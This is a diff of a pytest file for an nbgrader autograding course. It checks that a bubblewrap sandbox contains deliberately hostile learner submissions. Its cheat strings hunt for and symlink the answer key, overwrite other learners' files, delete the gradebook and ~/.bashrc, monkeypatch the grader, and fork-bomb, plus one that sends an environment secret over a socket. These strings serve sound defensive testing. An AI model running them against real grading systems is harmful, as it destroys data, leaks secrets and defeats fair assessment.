@@ -1,16 +1,24 @@
 """The failure-audit project through the real nbgrader command line, with no Jupyter server:
-generate_assignment, autograde, generate_feedback, export; cheats and leaks included."""
+generate_assignment, autograde (learner code in the sandbox), generate_feedback, export.
+
+The cohort holds honest learners and cheats. Every cheat starts from the same honest files
+as the learner "partial" and must gain nothing over them; the batch must finish, and the
+honest learners graded before and after the cheats must score the same.
+"""
 
 from __future__ import annotations
 
 import csv
+import hashlib
 import html
 import io
 import json
 import os
 import shutil
+import socket
 import subprocess
 import sys
+import threading
 from pathlib import Path
 
 import nbformat
@@ -21,15 +29,30 @@ from tests.conftest import DEMOS, ROOT
 
 ASSIGNMENT = "failure-audit"
 SOLUTIONS = ROOT / "solutions" / ASSIGNMENT
-CRITERIA = {"tags.agreement": 50, "tags.secondary": 10, "report.finding": 5,
-            "report.quantity": 5, "report.evidence": 10, "report.cause": 10, "report.fix": 5,
-            "report.structure": 5}
+KEY = SOLUTIONS / "answer_key.csv"
+CRITERIA = {"tags.agreement": 50, "tags.secondary": 10, "report.finding": 4,
+            "report.count": 4, "report.evidence": 8, "report.cause": 8, "report.fix": 4,
+            "report.prose": 4, "report.reasoning": 8}
+AUTOMATIC = {k: v for k, v in CRITERIA.items() if k != "report.reasoning"}
+BIN = Path(sys.executable).parent
+HAS_BWRAP = shutil.which("bwrap") is not None
+if not HAS_BWRAP and not os.environ.get("CI"):
+    pytest.skip("bubblewrap is not installed (apt-get install -y bubblewrap)",
+                allow_module_level=True)
+# Short limits so the cheats that loop cost seconds, not minutes.
+TEST_LIMITS = """
+c.Execute.timeout = 4
+c.SandboxedExecute.kill_grace = 2
+c.SandboxedExecute.notebook_timeout = 25
+"""
 
 
-def nbgrader(course: Path, env: dict, *args: str) -> subprocess.CompletedProcess:
-    done = subprocess.run([str(Path(sys.executable).parent / "nbgrader"), *args], cwd=course,
-                          env=env, capture_output=True, text=True, timeout=600)
-    assert done.returncode == 0, done.stdout + done.stderr
+def nbgrader(course: Path, env: dict, *args: str,
+             check: bool = True) -> subprocess.CompletedProcess:
+    done = subprocess.run([str(BIN / "nbgrader"), *args], cwd=course, env=env,
+                          capture_output=True, text=True, timeout=900)
+    if check:
+        assert done.returncode == 0, done.stdout + done.stderr
     return done
 
 
@@ -42,71 +65,182 @@ def tag_lines(rows: list[dict]) -> str:
                      f'["{r["label"]}", "{r["secondary_labels"]}"]' for r in rows)
 
 
-def learner_notebook(release: Path, tags: str, report: str,
-                     extra: str = "") -> nbformat.NotebookNode:
-    """The released notebook as a learner fills it in: their tags, counting code, report."""
+def learner_notebook(release: Path, tags: str, report: str, after_tags: str = "",
+                     after_report: str = "") -> nbformat.NotebookNode:
+    """The released notebook as a learner fills it in: their tags, counting code, report,
+    and whatever else their code does after the tags and after the report are written."""
     nb = nbformat.read(release, as_version=4)
-    cell(nb, "tags").source = "tags = labkit.blank_tags()\n" + tags + "\n" + extra
+    cell(nb, "tags").source = "tags = labkit.blank_tags()\n" + tags
     cell(nb, "count").source = ('failures = tags["label"].value_counts()'
                                 '.drop("no-failure", errors="ignore")\n'
                                 'top_failure = failures.index[0]')
-    cell(nb, "evidence").source = "print(top_failure)"
-    cell(nb, "report").source = f"REPORT = {report!r}\nPath('report.md').write_text(REPORT)"
+    cell(nb, "evidence").source = after_tags or "print(top_failure)"
+    cell(nb, "report").source = (f"REPORT = {report!r}\nPath('report.md').write_text(REPORT)\n"
+                                 + after_report)
     return nb
 
 
+# Each cheat: code run after the honest tags are saved, and code run after the report is
+# written. Paths are found as a learner would: from the working folder, or absolute.
+FIND_KEY = f"""
+import os, shutil
+candidates = ["../../../../solutions/failure-audit/answer_key.csv",
+              "../../../solutions/failure-audit/answer_key.csv", {str(KEY)!r}]
+here = os.getcwd()
+while here != "/":
+    for root, dirs, files in os.walk(here):
+        if "answer_key.csv" in files:
+            candidates.append(os.path.join(root, "answer_key.csv"))
+        dirs[:] = [d for d in dirs if d not in ("proc", "sys")][:50]
+    here = os.path.dirname(here)
+found = [c for c in candidates if os.path.exists(c)]
+print("found", found)
+"""
+COPY_KEY = FIND_KEY + """
+for path in found:
+    import pandas as pd
+    key = pd.read_csv(path, keep_default_na=False)
+    key[["log_id", "label"]].assign(secondary_labels=key["secondary"], note="").to_csv(
+        "tags.csv", index=False)
+"""
+CHEATS = {
+    "cheat-key-paths": (COPY_KEY, ""),
+    "cheat-key-symlink": ("", f"import os\nos.remove('tags.csv')\nos.symlink({str(KEY)!r}, "
+                              "'tags.csv')\nos.remove('report.md')\n"
+                              f"os.symlink({str(SOLUTIONS / 'sample_reports/reference.md')!r}, "
+                              "'report.md')"),
+    "cheat-write-others": ("", """
+import glob, os
+for pattern in ["../../*/failure-audit/tags.csv", "../../../autograded/*/failure-audit/tags.csv",
+                "../../../submitted/*/failure-audit/*.ipynb"]:
+    for path in glob.glob(pattern):
+        if os.path.abspath(path) == os.path.abspath("tags.csv"):
+            continue
+        try:
+            open(path, "w").write("log_id,label\\n")
+            print("overwrote", path)
+        except OSError as exc:
+            print("blocked", path, exc)
+for path in ["../../../gradebook.db", "../../gradebook.db", os.path.expanduser("~/.bashrc")]:
+    try:
+        os.remove(path)
+        print("deleted", path)
+    except OSError as exc:
+        print("blocked", path, exc)
+"""),
+    "cheat-monkeypatch": ("import grader.nbgrader_cells, grader.scoring\n"
+                          "grader.nbgrader_cells.criterion_points = lambda *a, **k: 50.0\n"
+                          "grader.scoring.tag_agreement = lambda c, cr: None\n", ""),
+    "cheat-print-50mb": ("print('x' * 50_000_000)", ""),
+    "cheat-loop": ("", "while True:\n    pass"),
+    "cheat-loop-ignores-interrupt": ("", "import signal, time\n"
+                                         "signal.signal(signal.SIGINT, signal.SIG_IGN)\n"
+                                         "while True:\n    time.sleep(0.01)"),
+    "cheat-fork-bomb": ("", "import os, time\nwhile True:\n    try:\n        if os.fork() == 0:\n"
+                            "            time.sleep(60)\n            os._exit(0)\n"
+                            "    except OSError:\n        time.sleep(0.01)"),
+    "cheat-memory": ("", "hog = [bytearray(256 * 1024**2) for _ in range(64)]"),
+}
+
+
 @pytest.fixture(scope="module")
-def course(tmp_path_factory):
-    """A graded copy of the course: six learners submitted, autograded, feedback generated."""
+def listener():
+    """A TCP server on the grader's loopback that records every connection made to it."""
+    server = socket.create_server(("127.0.0.1", 0))
+    server.settimeout(0.5)
+    seen: list[str] = []
+    stop = threading.Event()
+
+    def serve() -> None:
+        while not stop.is_set():
+            try:
+                conn, _ = server.accept()
+            except TimeoutError:
+                continue
+            seen.append(conn.recv(100).decode(errors="replace"))
+            conn.close()
+
+    thread = threading.Thread(target=serve, daemon=True)
+    thread.start()
+    yield server.getsockname()[1], seen
+    stop.set()
+    thread.join()
+    server.close()
+
+
+@pytest.fixture(scope="module")
+def course(tmp_path_factory, listener):
+    """A graded copy of the course: honest learners and cheats, autograded in the sandbox,
+    feedback generated."""
+    port, _ = listener
     root = tmp_path_factory.mktemp("nbgrader")
     course = root / "course"
     shutil.copytree(ROOT / "exercises", course, ignore=shutil.ignore_patterns(
         "release", "submitted", "autograded", "feedback", "gradebook.db"))
-    env = {**os.environ,
-           "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}"}
+    with (course / "nbgrader_config.py").open("a", encoding="utf-8") as config:
+        config.write(TEST_LIMITS)
+    env = {**os.environ, "PATH": f"{BIN}{os.pathsep}{os.environ['PATH']}",
+           "MENTOR_SECRET": "mentor-token-1234"}
     nbgrader(course, env, "generate_assignment", ASSIGNMENT)
     release = course / "release" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
 
     with (DEMOS / "beginner" / "tags.csv").open(encoding="utf-8") as handle:
-        beginner = list(csv.DictReader(handle))
+        beginner = tag_lines(list(csv.DictReader(handle))[:60])
     shallow = (SOLUTIONS / "sample_reports" / "08-adequate-shallow.md").read_text()
-    partial = learner_notebook(release, tag_lines(beginner[:60]), shallow)
-    patch = ("import grader.nbgrader_cells, grader.scoring\n"
-             "grader.nbgrader_cells.criterion_points = lambda *a, **k: 50.0\n"
-             "grader.scoring.tag_agreement = lambda c, cr: None\n")
-    monkeypatch = learner_notebook(release, tag_lines(beginner[:60]), shallow, patch)
-    edited = learner_notebook(release, tag_lines(beginner[:60]), shallow)
-    for grade_id in [c.replace(".", "-") for c in CRITERIA]:
-        cell(edited, grade_id).source = "50.0"
+    source = nbformat.read(ROOT / "exercises" / "source" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb",
+                           as_version=4)
     broken = nbformat.read(ROOT / "exercises" / "source" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb",
                            as_version=4)
     cell(broken, "report").source = ("Path('report.md').write_text('I think the bot is "
                                      "unhelpful because of the prompt.')")
+    edited = learner_notebook(release, beginner, shallow)
+    for grade_id in [c.replace(".", "-") for c in AUTOMATIC]:
+        cell(edited, grade_id).source = "50.0"
+    network = (f"import socket, os\ns = socket.socket()\ns.settimeout(3)\ntry:\n"
+               f"    s.connect(('127.0.0.1', {port}))\n"
+               f"    s.sendall(os.environ.get('MENTOR_SECRET', 'none').encode())\n"
+               f"except OSError as exc:\n    print('blocked', exc)\n")
     submissions = {
-        "solved": nbformat.read(ROOT / "exercises" / "source" / ASSIGNMENT /
-                                f"{ASSIGNMENT}.ipynb", as_version=4),
+        "a-partial": learner_notebook(release, beginner, shallow),
+        "solved": source,
         "untouched": nbformat.read(release, as_version=4),
-        "partial": partial, "broken-report": broken,
-        "cheat-monkeypatch": monkeypatch, "cheat-edited-tests": edited,
+        "broken-report": broken,
+        "cheat-edited-tests": edited,
+        "cheat-network": learner_notebook(release, beginner, shallow, after_tags=network),
+        **{name: learner_notebook(release, beginner, shallow, *code)
+           for name, code in CHEATS.items()},
+        "z-partial": learner_notebook(release, beginner, shallow),
     }
     for student, nb in submissions.items():
         folder = course / "submitted" / student / ASSIGNMENT
         folder.mkdir(parents=True)
         nbformat.write(nb, folder / f"{ASSIGNMENT}.ipynb")
+    digest = hashlib.sha256((course / "submitted" / "z-partial" / ASSIGNMENT /
+                             f"{ASSIGNMENT}.ipynb").read_bytes()).hexdigest()
     nbgrader(course, env, "autograde", ASSIGNMENT)
     nbgrader(course, env, "generate_feedback", ASSIGNMENT)
+    course.joinpath("z-partial.sha256").write_text(digest)
     return course
 
 
+def export(course: Path) -> list[dict]:
+    done = subprocess.run([str(BIN / "grader"), "export", "--db", str(course / "gradebook.db")],
+                          capture_output=True, text=True, check=True)
+    return list(csv.DictReader(io.StringIO(done.stdout)))
+
+
 @pytest.fixture(scope="module")
-def scores(course) -> dict[str, dict[str, float]]:
-    """Per-criterion scores as the mentor's `grader export` reads them from the gradebook."""
-    done = subprocess.run([str(Path(sys.executable).parent / "grader"), "export", "--db",
-                           str(course / "gradebook.db")], capture_output=True, text=True,
-                          check=True)
+def rows(course) -> list[dict]:
+    return export(course)
+
+
+@pytest.fixture(scope="module")
+def scores(rows) -> dict[str, dict[str, float]]:
+    """Per-criterion scores of the automatically graded criteria, by learner."""
     table: dict[str, dict[str, float]] = {}
-    for row in csv.DictReader(io.StringIO(done.stdout)):
-        table.setdefault(row["student"], {})[row["criterion"]] = float(row["score"])
+    for row in rows:
+        if row["criterion"] in AUTOMATIC:
+            table.setdefault(row["student"], {})[row["criterion"]] = float(row["score"])
     return table
 
 
@@ -114,57 +248,123 @@ def total(scores: dict[str, float]) -> float:
     return round(sum(scores.values()), 2)
 
 
-def test_export_has_every_criterion_of_every_learner(scores):
-    assert len(scores) == 6
-    assert all(set(by_criterion) == set(CRITERIA) for by_criterion in scores.values())
+def run_of(rows: list[dict], student: str) -> tuple[str, str]:
+    row = next(r for r in rows if r["student"] == student)
+    return row["sandbox"], row["run_outcome"]
 
 
-def test_scores_of_each_submission(scores):
-    assert total(scores["solved"]) == 100
+def test_export_has_every_criterion_of_every_learner(rows):
+    learners = {r["student"] for r in rows}
+    assert len(learners) == 7 + len(CHEATS)
+    for learner in learners:
+        assert {r["criterion"] for r in rows if r["student"] == learner} == set(CRITERIA)
+
+
+def test_scores_and_statuses_of_honest_learners(rows, scores):
+    assert total(scores["solved"]) == sum(AUTOMATIC.values())
     assert total(scores["untouched"]) == 0
-    assert 25 < total(scores["partial"]) < 80
+    assert 25 < total(scores["a-partial"]) < 80
+    status = {(r["student"], r["criterion"]): r["status"] for r in rows}
+    assert {status["untouched", c] for c in AUTOMATIC} == {"not-submitted"}
+    assert status["solved", "report.reasoning"] == "pending"
+    assert status["untouched", "report.reasoning"] == "not-submitted"  # nothing to read
+    reasoning = next(r for r in rows if r["student"] == "solved"
+                     and r["criterion"] == "report.reasoning")
+    assert reasoning["score"] == "" and reasoning["needs_manual_grade"] == "True"
     broken = scores["broken-report"]
     assert broken["tags.agreement"] == 50 and broken["tags.secondary"] == 10
-    assert sum(v for k, v in broken.items() if k.startswith("report.")) <= 5
+    assert {status["broken-report", f"report.{c}"] for c in
+            ("finding", "count", "evidence", "cause", "fix")} == {"invalid"}
+    assert all(run_of(rows, s) == ("bwrap", "completed") for s in ("solved", "a-partial"))
 
 
 def test_cheats_gain_nothing(scores):
-    assert scores["cheat-monkeypatch"] == scores["partial"]
-    assert scores["cheat-edited-tests"] == scores["partial"]
+    honest = total(scores["a-partial"])
+    for student in [s for s in scores if s.startswith("cheat-")]:
+        assert total(scores[student]) <= honest, student
+    for student in ("cheat-monkeypatch", "cheat-edited-tests", "cheat-key-paths",
+                    "cheat-write-others", "cheat-network", "cheat-print-50mb"):
+        assert scores[student] == scores["a-partial"], student
+
+
+def test_learner_code_finds_no_answer_key(course):
+    notebook = nbformat.read(course / "autograded" / "cheat-key-paths" / ASSIGNMENT /
+                             f"{ASSIGNMENT}.ipynb", as_version=4)
+    printed = "".join(o.get("text", "") for o in cell(notebook, "evidence").outputs)
+    assert "found []" in printed
+
+
+def test_a_linked_file_is_refused_not_followed(rows):
+    statuses = {r["criterion"]: r["status"] for r in rows if r["student"] == "cheat-key-symlink"}
+    assert statuses["tags.agreement"] == "invalid"
+
+
+def test_other_learners_and_the_gradebook_are_out_of_reach(course, scores):
+    assert scores["z-partial"] == scores["a-partial"]
+    submitted = course / "submitted" / "z-partial" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
+    assert hashlib.sha256(submitted.read_bytes()).hexdigest() == \
+        (course / "z-partial.sha256").read_text()
+    notebook = nbformat.read(course / "autograded" / "cheat-write-others" / ASSIGNMENT /
+                             f"{ASSIGNMENT}.ipynb", as_version=4)
+    printed = "".join(o.get("text", "") for o in cell(notebook, "report").outputs)
+    assert "overwrote" not in printed and "deleted" not in printed
+    assert (course / "gradebook.db").is_file()
+
+
+def test_no_network_and_no_mentor_environment(course, listener):
+    _, seen = listener
+    assert seen == []
+    for path in (course / "autograded").rglob("*"):
+        if path.is_file():
+            assert b"mentor-token-1234" not in path.read_bytes(), path
+
+
+def test_runaway_notebooks_are_stopped_and_graded_on_their_files(rows, scores):
+    assert run_of(rows, "cheat-loop")[1] in ("interrupted", "timeout")
+    assert run_of(rows, "cheat-loop-ignores-interrupt")[1] == "timeout"
+    assert run_of(rows, "cheat-fork-bomb")[1] in ("interrupted", "timeout", "crashed")
+    for student in ("cheat-loop", "cheat-loop-ignores-interrupt"):
+        assert scores[student] == scores["a-partial"], student
+
+
+def test_output_is_capped(course):
+    page = course / "autograded" / "cheat-print-50mb" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
+    assert page.stat().st_size < 2_000_000
+    assert "dropped" in page.read_text(encoding="utf-8")
 
 
 def test_nbgrader_agrees_with_grader_grade(course, scores):
     for student, by_criterion in scores.items():
         folder = course / "autograded" / student / ASSIGNMENT
-        done = subprocess.run([str(Path(sys.executable).parent / "grader"), "grade",
-                               "--exercise", ASSIGNMENT, "--submission", str(folder),
-                               "--format", "json"], capture_output=True, text=True)
+        done = subprocess.run([str(BIN / "grader"), "grade", "--exercise", ASSIGNMENT,
+                               "--submission", str(folder), "--format", "json"],
+                              capture_output=True, text=True)
         if done.returncode == 2:
             assert total(by_criterion) == 0, student
             continue
-        graded = {c["id"]: c["score"] for c in json.loads(done.stdout)["criteria"]}
+        graded = {c["id"]: c["score"] for c in json.loads(done.stdout)["criteria"]
+                  if c["id"] in AUTOMATIC}
         assert graded == by_criterion, student
 
 
 def answer_key_secrets(learner_text: str = "") -> list[str]:
     """Strings that must never reach a learner before release.
 
-    A phrasing of a planted cause is a secret unless it is ordinary public text (it occurs in
-    the datasets learners read) or the learner wrote it themselves.
+    A mentor-only text is a secret unless it is ordinary public text (it occurs in the
+    datasets learners read) or the learner wrote it themselves.
     """
     public = " ".join(p.read_text(encoding="utf-8") for p in (ROOT / "datasets").rglob("*")
                       if p.is_file()).lower() + learner_text.lower()
-    with (SOLUTIONS / "answer_key.csv").open(encoding="utf-8") as handle:
+    with KEY.open(encoding="utf-8") as handle:
         key = list(csv.DictReader(handle))
     causes = yaml.safe_load((SOLUTIONS / "planted_causes.yaml").read_text(encoding="utf-8"))
     secrets = [row["rationale"] for row in key]
     secrets += [f'"{row["log_id"]}", ["{row["label"]}"' for row in key]
-    for cause in causes["causes"]:
-        secrets.append(cause["summary"])
-        secrets += [p for p in cause["accepted_phrasings"] + cause["fix_phrasings"]
-                    if p.lower() not in public]
-    reference = (SOLUTIONS / "sample_reports" / "reference.md").read_text(encoding="utf-8")
-    secrets += [line for line in reference.splitlines() if len(line) > 60]
+    secrets += [cause["summary"] for cause in causes["causes"]]
+    for path in (SOLUTIONS / "planted_defects.md", SOLUTIONS / "datasheet-answers.md",
+                 SOLUTIONS / "sample_reports" / "reference.md"):
+        secrets += [line for line in path.read_text(encoding="utf-8").splitlines()
+                    if len(line) > 60 and line.lower() not in public]
     secrets += ["answer_key", "solutions/", "planted"]
     return secrets
 
@@ -174,14 +374,15 @@ def leaks(text: str, learner_text: str = "") -> list[str]:
     def fold(s: str) -> str:
         return " ".join(html.unescape(s).lower().split())
 
-    page = fold(text)
-    return [s for s in answer_key_secrets(learner_text) if fold(s) in page]
+    page, own = fold(text), fold(learner_text)
+    return [s for s in answer_key_secrets(learner_text) if fold(s) in page
+            and fold(s) not in own]
 
 
 def test_the_leak_check_can_fail():
     source = ROOT / "exercises" / "source" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
-    assert "answer_key" in leaks(source.read_text(encoding="utf-8"))
-    assert leaks((SOLUTIONS / "answer_key.csv").read_text(encoding="utf-8"))
+    assert leaks(source.read_text(encoding="utf-8"))
+    assert leaks(KEY.read_text(encoding="utf-8"))
 
 
 def test_release_contains_no_answer_key_entry(course):
@@ -192,11 +393,18 @@ def test_release_contains_no_answer_key_entry(course):
     assert "BEGIN SOLUTION" not in released
 
 
-@pytest.mark.parametrize("student", ["untouched", "partial", "cheat-monkeypatch"])
+@pytest.mark.parametrize("student", ["untouched", "a-partial", "cheat-monkeypatch",
+                                     "cheat-key-paths"])
 def test_feedback_contains_no_answer_key_entry(course, student):
     page = (course / "feedback" / student / ASSIGNMENT / f"{ASSIGNMENT}.html").read_text()
-    own_report = (course / "autograded" / student / ASSIGNMENT / "report.md")
-    learner_text = own_report.read_text() if own_report.exists() else ""
+    folder = course / "autograded" / student / ASSIGNMENT
+    own_report = folder / "report.md"
+    # What the learner wrote is theirs to see again: their report and their own code (a
+    # cheat's code names the paths it tried; that it shows them is no leak).
+    own_code = nbformat.read(folder / f"{ASSIGNMENT}.ipynb", as_version=4)
+    learner_text = "\n".join(c.source for c in own_code.cells if c.cell_type == "code")
+    if own_report.exists():
+        learner_text += "\n" + own_report.read_text()
     assert not leaks(page, learner_text)
 
 
@@ -210,36 +418,64 @@ def test_site_notebook_is_the_nbgrader_release(course):
         (c.source, c.metadata) for c in theirs.cells]
 
 
-def test_learner_path_from_the_site_notebook(tmp_path):
-    """Download the site's notebook, work it, run it as JupyterLab would, check, grade."""
-    from nbclient import NotebookClient
-
-    from grader.release import release_notebook
-
-    folder = tmp_path / "my-audit"
-    folder.mkdir()
-    released = folder / f"{ASSIGNMENT}.ipynb"
-    nbformat.write(release_notebook(ROOT / "exercises" / "source" / ASSIGNMENT /
-                                    f"{ASSIGNMENT}.ipynb"), released)
-    with (DEMOS / "beginner" / "tags.csv").open(encoding="utf-8") as handle:
-        rows = list(csv.DictReader(handle))
-    report = (SOLUTIONS / "sample_reports" / "08-adequate-shallow.md").read_text()
-    notebook = learner_notebook(released, tag_lines(rows), report)
-    NotebookClient(notebook, timeout=300, resources={"metadata": {"path": str(folder)}}).execute()
-    assert (folder / "tags.csv").is_file() and (folder / "report.md").is_file()
-    grader = str(Path(sys.executable).parent / "grader")
-    check = subprocess.run([grader, "check", "--submission", str(folder)], capture_output=True,
-                           text=True)
-    assert check.returncode == 0 and "tags.csv: well-formed" in check.stdout
-    graded = subprocess.run([grader, "grade", "--exercise", ASSIGNMENT, "--submission",
-                             str(folder), "--format", "json"], capture_output=True, text=True)
-    assert graded.returncode == 0
-    assert 50 < json.loads(graded.stdout)["score"] < 100
-
-
-def test_nbgrader_export_totals_equal_the_per_criterion_sums(course, scores):
-    env = {**os.environ, "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}"}
+def test_nbgrader_export_totals_equal_the_per_criterion_sums(course, rows):
+    env = {**os.environ, "PATH": f"{BIN}{os.pathsep}{os.environ['PATH']}"}
     nbgrader(course, env, "export", "--to", "totals.csv")
     with (course / "totals.csv").open(encoding="utf-8") as handle:
         totals = {row["student_id"]: float(row["score"]) for row in csv.DictReader(handle)}
-    assert totals == {student: total(by_criterion) for student, by_criterion in scores.items()}
+    ours: dict[str, float] = {}
+    for row in rows:
+        ours[row["student"]] = round(ours.get(row["student"], 0) + float(row["score"] or 0), 2)
+    assert totals == ours
+
+
+@pytest.fixture(scope="module")
+def unsafe_course(tmp_path_factory):
+    """A course graded without the sandbox (as on a machine without bwrap): one learner
+    prints the answer key."""
+    course = tmp_path_factory.mktemp("unsafe") / "course"
+    shutil.copytree(ROOT / "exercises", course, ignore=shutil.ignore_patterns(
+        "release", "submitted", "autograded", "feedback", "gradebook.db"))
+    with (course / "nbgrader_config.py").open("a", encoding="utf-8") as config:
+        config.write(TEST_LIMITS)
+    env = {**os.environ, "PATH": str(BIN)}  # no bwrap on this PATH
+    nbgrader(course, env, "generate_assignment", ASSIGNMENT)
+    release = course / "release" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
+    with (DEMOS / "beginner" / "tags.csv").open(encoding="utf-8") as handle:
+        beginner = tag_lines(list(csv.DictReader(handle))[:60])
+    shallow = (SOLUTIONS / "sample_reports" / "08-adequate-shallow.md").read_text()
+    printer = learner_notebook(release, beginner, shallow,
+                               after_tags=f"print(open({str(KEY)!r}).read())")
+    for student, nb in (("honest", learner_notebook(release, beginner, shallow)),
+                        ("printer", printer)):
+        folder = course / "submitted" / student / ASSIGNMENT
+        folder.mkdir(parents=True)
+        nbformat.write(nb, folder / f"{ASSIGNMENT}.ipynb")
+    refused = nbgrader(course, env, "autograde", ASSIGNMENT, check=False)
+    unsafe = nbgrader(course, env, "autograde", ASSIGNMENT,
+                      "--SandboxedExecute.unsafe_no_sandbox=True")
+    feedback = nbgrader(course, env, "generate_feedback", ASSIGNMENT, check=False)
+    return course, refused, unsafe, feedback
+
+
+def test_without_bwrap_autograde_refuses_with_a_coded_error(unsafe_course):
+    _, refused, _, _ = unsafe_course
+    assert refused.returncode != 0
+    assert "[sandbox-unavailable]" in refused.stderr
+    assert "apt-get install bubblewrap" in refused.stderr
+    assert "unsafe_no_sandbox" in refused.stderr
+
+
+def test_the_unsafe_switch_is_recorded(unsafe_course):
+    course, _, _, _ = unsafe_course
+    rows = export(course)
+    assert {r["sandbox"] for r in rows} == {"none (unsafe)"}
+
+
+def test_a_feedback_page_with_the_answer_key_is_not_written(unsafe_course):
+    course, _, _, feedback = unsafe_course
+    assert feedback.returncode != 0
+    assert "[feedback-leak] learner 'printer'" in feedback.stderr
+    assert "(evidence)" in feedback.stderr
+    assert not (course / "feedback" / "printer" / ASSIGNMENT / f"{ASSIGNMENT}.html").exists()
+    assert (course / "feedback" / "honest" / ASSIGNMENT / f"{ASSIGNMENT}.html").is_file()
